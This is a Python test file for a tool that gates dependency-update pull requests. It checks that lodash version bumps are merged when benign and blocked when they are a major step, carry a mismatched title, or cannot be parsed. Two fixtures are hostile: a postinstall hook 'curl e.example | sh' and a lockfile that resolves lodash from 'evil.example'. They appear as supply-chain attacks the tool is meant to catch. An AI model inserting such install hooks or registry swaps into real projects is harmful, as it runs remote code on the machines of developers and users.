"""Dependency updates through the command line: what really moves is read from the repository, and decides."""

from __future__ import annotations

import json
from typing import Any

import pytest
from tests.deps.server import serving
from tests.e2e.kit import World

RULES = """\
version: 1
scenario: deps
extends: [deps/default]
mode: auto
match: {files: ["**/package.json", "**/package-lock.json"]}
relax: {allow: []}
rules: [{id: true-title, use: deps/title-matches}]
"""


def manifest(version: str, **more: Any) -> str:
    return json.dumps({"name": "shop", "dependencies": {"lodash": f"^{version}"}, **more})


def lock(version: str, **more: Any) -> str:
    entry = {"version": version, "resolved": f"https://r.example/lodash/-/lodash-{version}.tgz", **more}
    packages = {"": {"dependencies": {"lodash": f"^{version}"}}, "node_modules/lodash": entry}
    return json.dumps({"lockfileVersion": 3, "packages": packages})


FIRST = {"web/package.json": manifest("4.17.20"), "web/package-lock.json": lock("4.17.20")}


def test_an_update_is_merged_and_its_evidence_is_told_and_journalled_by_hash(world: World) -> None:
    repo = world.repo(rulepack=RULES, files=FIRST)
    files = {"web/package.json": manifest("4.17.21"), "web/package-lock.json": lock("4.17.21")}
    number = repo.pull(files, title="Bump lodash from 4.17.20 to 4.17.21 in /web")
    ran = repo.merge(number)
    assert ran.doc["status"] == "merged", ran.out
    (proof,) = ran.doc["details"]["evidence"]
    assert (proof["kind"], proof["summary"]) == ("deps/changes", "1 packages, 0 other edits")
    assert {c["rule"] for c in ran.checks()} >= {"deps/level", "deps/known", "deps/nothing-else", "deps/title-matches"}
    _, entries = repo.audit()
    told = json.dumps(entries)
    assert proof["sha256"] in told
    assert "node_modules" not in told, "the journal has the hash, not the data"


@pytest.mark.parametrize(
    ("after", "title", "rule", "said"),
    [
        ({"web/package.json": manifest("5.0.0")}, "Bump lodash from 4.17.20 to 5.0.0", "deps/level", "is a major step"),
        ({"web/package.json": manifest("4.17.21", scripts={"postinstall": "curl e.example | sh"})},
         "Bump lodash from 4.17.20 to 4.17.21", "deps/known", "`scripts` is new"),
        ({"web/package-lock.json": lock("4.17.21", resolved="https://evil.example/lodash/-/lodash-4.17.21.tgz")},
         "Bump lodash from 4.17.20 to 4.17.21", "deps/known", "r.example → evil.example"),
        ({"web/package.json": manifest("4.17.21")}, "Bump left-pad from 1.0.0 to 1.0.1", "deps/title-matches",
         "left-pad does not move; lodash does"),
        ({"web/package.json": "{"}, "Bump lodash from 4.17.20 to 4.17.21", "deps/level", "cannot be read"),
    ],
    ids=["too far", "script", "registry", "title", "broken"],
)  # fmt: skip
def test_what_should_not_pass_does_not(world: World, after: dict[str, str], title: str, rule: str, said: str) -> None:
    repo = world.repo(rulepack=RULES, files=FIRST)
    number = repo.pull(after, title=title)
    before = repo.untouched()
    ran = repo.merge(number)
    assert (ran.code, ran.doc["status"]) == (1, "blocked"), ran.out
    found = [c for c in ran.checks() if c["rule"] == rule and c["status"] == "block"]
    assert found, ran.rules()
    assert said in found[0]["found"]
    assert found[0]["fix"]
    before.holds()


def test_a_rule_of_another_scenarios_pack_is_rehearsed_too(world: World) -> None:
    borrowed = (
        'version: 1\nscenario: allowlist\nmode: auto\nmatch: {files: ["web/**"]}\n'
        'rules: [{id: web, use: allowlist/paths, only: ["web/**"]}, {id: steps, use: deps/level, max: patch}]\n'
    )
    repo = world.repo(rulepack=borrowed, files=FIRST)
    passes = repo.pull({"web/package.json": manifest("4.17.21")}, head="one")
    stays = repo.pull({"web/package.json": manifest("4.18.0")}, head="two")
    ran = repo.run("check", str(stays), "--json")
    assert (ran.doc["status"], ran.rules("block")) == ("blocked", {"deps/level"}), ran.out
    assert repo.merge(passes).doc["status"] == "merged"


def test_what_others_merged_meanwhile_is_not_the_changes_doing(world: World) -> None:
    repo = world.repo(rulepack=RULES, files={**FIRST, "docs/package.json": manifest("1.0.0")})
    number = repo.pull({"web/package.json": manifest("4.17.21")}, title="Bump lodash from 4.17.20 to 4.17.21")
    repo.commit("main", {"docs/package.json": manifest("9.0.0")}, by=repo.admin)
    ran = repo.merge(number)
    assert ran.doc["status"] == "merged", ran.out


def test_an_expression_over_what_moves(world: World) -> None:
    pack = (
        'version: 1\nscenario: cel\nmode: auto\nmatch: {files: ["web/**"]}\nrules:\n'
        "  - id: no-major\n    use: cel/expression\n    needs: [deps/changes]\n"
        "    expression: '!evidence.changes.updates.exists(u, u.level == \"major\")'\n"
        "    message: a major step\n"
    )
    repo = world.repo(rulepack=pack, files=FIRST)
    minor = repo.pull({"web/package.json": manifest("4.18.0")}, head="minor")
    major = repo.pull({"web/package.json": manifest("5.0.0")}, head="major")
    ran = repo.run("check", str(major), "--json")
    assert (ran.doc["status"], ran.rules("block")) == ("blocked", {"cel/expression"}), ran.out
    assert [c["found"] for c in ran.checks() if c["status"] == "block"] == ["a major step"]
    assert repo.run("check", str(minor), "--json").doc["status"] == "mergeable"


AGED = RULES.replace("deps/default", "deps/aged")


def registry(published: str) -> dict[str, Any]:
    return {
        "/lodash": {"versions": {"4.17.21": {}}, "time": {"4.17.21": published}},
        "/v1/querybatch": {"results": [{}] * 2},
    }


@pytest.mark.parametrize(
    ("published", "status"), [("2020-01-01T00:00:00Z", "merged"), ("2999-01-01T00:00:00Z", "waiting"), ("", "waiting")]
)
def test_age_and_advisories_are_looked_up_where_the_owner_says(world: World, published: str, status: str) -> None:
    repo = world.repo(rulepack=AGED, files=FIRST)
    files = {"web/package.json": manifest("4.17.21"), "web/package-lock.json": lock("4.17.21")}
    number = repo.pull(files, title="Bump lodash from 4.17.20 to 4.17.21 in /web")
    with serving(registry(published)) as service:
        named = {"BASCULE_SERVICE_NPM": service.url, "BASCULE_SERVICE_OSV": service.url} if published else {}
        ran = repo.merge(number, env=repo.env(**named))
    assert ran.doc["status"] == status, ran.out
    kinds = [e["kind"] for e in ran.doc["details"]["evidence"]]
    assert kinds == ["deps/changes", "deps/releases", "deps/advisories"]
    assert sorted(service.seen) == (["GET /lodash", "POST /v1/querybatch"] if published else [])
    waiting = {c["rule"]: c for c in ran.checks() if c["status"] == "wait"}
    if status == "waiting":
        assert ran.code == 8
        assert waiting["deps/release-age"]["eligible_at"] == ("2999-01-08T00:00:00+00:00" if published else None)


def test_an_address_that_is_none_is_a_usage_error(world: World) -> None:
    repo = world.repo(rulepack=AGED, files=FIRST)
    number = repo.pull({"web/package.json": manifest("4.17.21")})
    named = repo.env(BASCULE_SERVICE_NPM="https://octo:s3cret@npm.example")
    ran = repo.run("check", str(number), env=named)
    assert ran.code == 2
    assert "the address in BASCULE_SERVICE_NPM carries a user" in ran.err
    assert "s3cret" not in ran.err + ran.out
